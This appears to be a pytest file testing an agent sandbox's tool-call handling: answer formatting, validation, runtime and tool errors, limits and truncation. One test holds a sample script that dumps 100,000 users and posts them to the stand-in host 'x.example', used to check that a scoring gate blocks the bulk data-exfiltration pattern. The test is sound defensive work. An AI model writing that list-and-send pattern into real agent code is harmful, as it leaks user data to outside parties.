"""`Enclave.run_tool_call`: a model's "execute AgentScript" call in, a model-friendly answer out."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator

import pytest

from enclave_vm import CodeToolResult, Enclave, ErrorCode, Toolset

tools = Toolset()


@tools.tool(name="orders:list")
def list_orders(status: str, limit: int = 100) -> list[dict[str, object]]:
    """Orders with a status."""
    return [{"id": i, "status": status, "total": 10 * i} for i in range(limit)]


@pytest.fixture
async def enclave() -> AsyncIterator[Enclave]:
    async with Enclave(tool_handler=tools, timeout=5000) as instance:
        yield instance


def parsed(answer: CodeToolResult) -> dict[str, object]:
    content = json.loads(answer.content)
    assert content == answer.payload
    return content  # type: ignore[no-any-return]


async def test_openai_arguments_json_text_run_and_answer_value_and_stdout(enclave: Enclave) -> None:
    arguments = json.dumps(
        {
            "code": "const o = await callTool('orders:list', { status: 'paid', limit: 3 });\n"
            "console.log('orders', o.length);\nreturn o.map(x => x.total);"
        }
    )
    answer = await enclave.run_tool_call(arguments)
    assert not answer.is_error and answer.result.success
    assert parsed(answer) == {"ok": True, "value": [0, 10, 20], "stdout": "orders 3\n"}
    assert answer.to_openai_message("call_1") == {"role": "tool", "tool_call_id": "call_1", "content": answer.content}
    assert answer.to_anthropic_block("tu_1") == {
        "type": "tool_result",
        "tool_use_id": "tu_1",
        "content": answer.content,
    }


async def test_validation_errors_carry_every_issue_with_line_and_column(enclave: Enclave) -> None:
    answer = await enclave.run_tool_call({"code": "const a = 1;\nfor (const k in a) {}\neval('x');"})
    content = parsed(answer)
    assert answer.is_error and content["ok"] is False
    error = content["error"]
    assert isinstance(error, dict)
    assert error["code"] == "VALIDATION_ERROR"
    assert [(i["rule"], i["line"], i["column"]) for i in error["issues"]] == [
        ("forbidden-loop", 2, 1),
        ("no-eval", 3, 1),
    ]
    assert "Fix every issue" in error["hint"]
    assert answer.to_anthropic_block("tu")["is_error"] is True


async def test_runtime_errors_point_at_the_line(enclave: Enclave) -> None:
    answer = await enclave.run_tool_call(
        {
            "code": "const o = await callTool('orders:list', { status: 'x' });\n"
            "console.log('got', o.length);\nreturn o[500].total;"
        }
    )
    content = parsed(answer)
    error = content["error"]
    assert isinstance(error, dict)
    assert (error["code"], error["name"], error["line"], error["column"]) == ("RUNTIME_ERROR", "TypeError", 3, 8)
    assert content["stdout"] == "got 100\n"


async def test_tool_errors_name_the_field(enclave: Enclave) -> None:
    answer = await enclave.run_tool_call({"code": "return await callTool('orders:list', { status: 1 })"})
    error = parsed(answer)["error"]
    assert isinstance(error, dict) and error["code"] == "TOOL_ERROR"
    assert error["message"] == "Invalid argument 'status' for tool 'orders:list': Input should be a valid string, got 1"


async def test_run_options_pass_through(enclave: Enclave) -> None:
    code = "for (const s of ['a', 'b', 'c']) { await callTool('orders:list', { status: s, limit: 1 }) }\nreturn 1"
    answer = await enclave.run_tool_call({"code": code}, max_tool_calls=2)
    error = parsed(answer)["error"]
    assert isinstance(error, dict) and error["code"] == "MAX_TOOL_CALLS"
    assert answer.result.stats.tool_call_count == 2


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ("not json", "not valid JSON"),
        ("[1, 2]", "must be an object"),
        ({"script": "return 1"}, "needs a 'code' argument"),
        ({"code": 42}, "needs a 'code' argument"),
        ({"code": "   "}, "needs a 'code' argument"),
    ],
)
async def test_malformed_calls_are_answered_not_raised(enclave: Enclave, arguments: object, message: str) -> None:
    answer = await enclave.run_tool_call(arguments)
    error = parsed(answer)["error"]
    assert answer.is_error and isinstance(error, dict)
    assert error["code"] == "VALIDATION_ERROR" and message in error["message"]
    assert error["issues"][0]["rule"] == "tool-arguments"
    assert answer.result.error is not None and answer.result.error.code is ErrorCode.VALIDATION_ERROR
    assert answer.result.stats.tool_call_count == 0


async def test_large_values_are_truncated_for_the_model(enclave: Enclave) -> None:
    answer = await enclave.run_tool_call(
        {"code": "return await callTool('orders:list', { status: 'paid', limit: 5000 })"}
    )
    content = parsed(answer)
    assert content["value_truncated"] is True and isinstance(content["value"], str)
    assert len(answer.content) < 21000
    assert len(answer.result.value) == 5000  # the host still has the whole value


async def test_scoring_blocks_report_their_signals() -> None:
    # a plain handler (the Toolset's __call__) does not tell its names: the unknown tools reach the gate
    async with Enclave(tool_handler=tools.__call__, scoring_gate={"block_threshold": 30}) as enclave:
        answer = await enclave.run_tool_call(
            {
                "code": "const u = await callTool('users:list', { limit: 100000 });\n"
                "await callTool('http:post', { url: 'https://x.example', body: u });"
            }
        )
    error = parsed(answer)["error"]
    assert isinstance(error, dict) and error["code"] == "SCORING_BLOCKED"
    assert "list-send-pattern" in error["signals"]


async def test_absurdly_nested_arguments_get_an_answer_not_an_exception() -> None:
    async with Enclave() as enclave:
        answer = await enclave.run_tool_call("[" * 100_000)
    assert answer.is_error
